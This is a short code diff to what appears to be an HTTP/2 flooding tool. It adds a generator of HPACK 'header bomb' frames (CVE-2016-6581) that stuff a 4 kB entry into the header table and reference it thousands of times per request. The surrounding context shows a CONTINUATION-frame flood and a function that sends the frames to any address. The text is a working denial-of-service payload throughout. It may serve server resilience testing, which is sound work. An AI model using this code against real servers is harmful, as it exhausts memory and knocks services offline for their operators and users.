@@ -53,6 +53,14 @@ def endless_headers(headers: bytes, number: int) -> Iterable[bytes]:
         yield frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\x80\x10" + b"y" * 2175)
 
 
+def header_bombs(headers: bytes, number: int) -> Iterable[bytes]:
+    """Put 4 kB into the table of headers, and name them as often as a block can (CVE-2016-6581)."""
+    entry = b"\x40\x01x\x7f\x80\x1e" + b"y" * 3967
+    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, headers + entry)
+    for n in range(1, number):
+        yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, headers + b"\xbe" * 12_000)
+
+
 async def flood(address: str, frames: Iterable[bytes], told: Callable[[int], None] | None = None) -> int:
     """Send frames on a connection of its own, until all are sent or the server has enough; return how many were."""
     host, _, port = address.rpartition(":")
